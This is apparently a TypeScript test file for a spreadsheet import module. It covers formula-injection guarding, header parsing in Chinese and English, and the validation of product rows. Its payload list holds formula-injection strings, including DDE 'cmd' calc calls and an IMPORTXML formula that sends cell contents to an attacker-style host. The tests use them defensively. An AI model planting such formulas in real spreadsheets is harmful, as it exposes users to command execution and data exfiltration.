import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { guardFormula, unguardFormula } from '#domain/imports/formula.ts'
import { readHeadings } from '#domain/imports/headers.ts'
import { judgeRow } from '#domain/imports/judge.ts'
import { sheets } from '#domain/imports/sheets.ts'
import { cellsOf } from '#domain/imports/write.ts'
import { ProductDraft } from '#domain/products/product.ts'

const signs = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠']
const payloads = [
  ...signs.map(sign => `${sign}1+1`),
  ...signs.map(sign => `${sign}cmd|'/C calc'!A0`),
  ...signs.map(sign => `'${sign}SUM(A1)`),
  '=HYPERLINK("http://evil.example","看")',
  '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "''=1",
]

describe('a cell that a spreadsheet would take for a formula', () => {
  test('leaves with a guard and comes back without it', () => {
    expect(payloads.length).toBeGreaterThanOrEqual(30)
    for (const payload of payloads) {
      expect(guardFormula(payload).startsWith("'")).toBe(true)
      expect(unguardFormula(guardFormula(payload))).toBe(payload)
    }
  })

  test('is guarded whatever the text is, and no other text is touched', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'grapheme' }), text => {
        const out = guardFormula(text)
        expect(unguardFormula(out)).toBe(text)
        expect(/^[=+\-@\t\r\n＝＋－＠]/u.test(out)).toBe(false)
      }),
    )
  })
})

describe('headers', () => {
  test.each([
    ['产品名称', 'name'],
    ['* 产品名称', 'name'],
    ['Product name', 'name'],
    ['名称', 'name'],
    ['载重（kg）', 'specs.payloadKg.value'],
    ['载重 (g)', 'specs.payloadKg.value'],
    ['载重', 'specs.payloadKg.value'],
    ['载重 证据等级', 'specs.payloadKg.grade'],
    ['单价上限（万元）', 'priceToFen'],
  ])('%s is %s', (typed, key) => {
    expect(readHeadings('product', [typed]).columns[0]?.column.key).toBe(key)
  })

  test.each(['载重（米）', '颜色', '__proto__', 'toString'])('%s is not known', typed => {
    expect(readHeadings('product', [typed])).toMatchObject({ columns: [null], unknown: [typed] })
  })

  test.each(['zh', 'en'] as const)('of every column are read back as they are written in %s', locale => {
    for (const sheet of Object.values(sheets))
      for (const { label, unit, key } of sheet.columns) {
        const typed = unit ? `${label[locale]}（${unit[locale]}）` : label[locale]
        expect(readHeadings(sheet.noun, [typed]).columns[0]?.column.key, typed).toBe(key)
      }
  })

  test('a unit in the header is that of the bare numbers below it', () => {
    expect(readHeadings('product', ['载重（g）']).columns[0]?.unit).toBe('g')
  })
})

describe('a row', () => {
  const judged = (cells: Record<string, string | number>) =>
    judgeRow('product', { name: '送药机器人', ...cells })

  test.each([
    ['50公斤', 50],
    ['５０', 50],
    ['0.05 t', 50],
    [50, 50],
  ])('reads %s as 50 kg', (cell, value) => {
    expect(judged({ 'specs.payloadKg.value': cell }).content?.specs.payloadKg?.value).toBe(value)
  })

  test.each(['不详', '未披露', '', 'unknown', '-'])('leaves out what is not known: %s', cell => {
    const { content, errors } = judged({ 'specs.payloadKg.value': cell })
    if (errors.length === 0) expect(content?.specs).not.toHaveProperty('payloadKg')
    else expect(errors).toMatchObject([{ key: 'specs.payloadKg.value', typed: cell }])
  })

  test.each(['1e309', 'NaN', 'Infinity', '１２．五', '-5', '很重'])(
    'names %s as wrong, at its column',
    cell => {
      expect(judged({ 'specs.payloadKg.value': cell }).errors).toMatchObject([
        { key: 'specs.payloadKg.value', typed: cell },
      ])
    },
  )

  test('of any product reads back as the very same content, in both languages', () => {
    const option = (key: string) => {
      const column = sheets.product.columns.find(each => each.key === key)
      return fc.constantFrom(...Object.keys(column?.options ?? {}))
    }
    const content = fc.record(
      {
        name: fc.stringMatching(/^[\p{L}=+@-]{2,20}$/u),
        model: fc.stringMatching(/^[A-Z0-9-]{1,12}$/),
        category: option('category'),
        maturity: option('maturity'),
        trl: fc.integer({ min: 1, max: 9 }),
        priceFromFen: fc.integer({ min: 1, max: 10_000_000 }).map(n => n * 100),
        specs: fc.record({
          payloadKg: fc.record({
            value: fc.integer({ min: 1, max: 900 }),
            grade: option('specs.payloadKg.grade'),
          }),
        }),
      },
      { requiredKeys: ['name'] },
    )
    fc.assert(
      fc.property(content, fc.constantFrom('zh' as const, 'en' as const), (given, locale) => {
        const read = ProductDraft.safeParse(given)
        fc.pre(read.success)
        const wanted = JSON.parse(JSON.stringify(read.data))
        const back = judgeRow('product', cellsOf('product', wanted, locale))
        expect(back.errors).toEqual([])
        expect(JSON.parse(JSON.stringify(back.content))).toEqual(wanted)
      }),
    )
  })
})
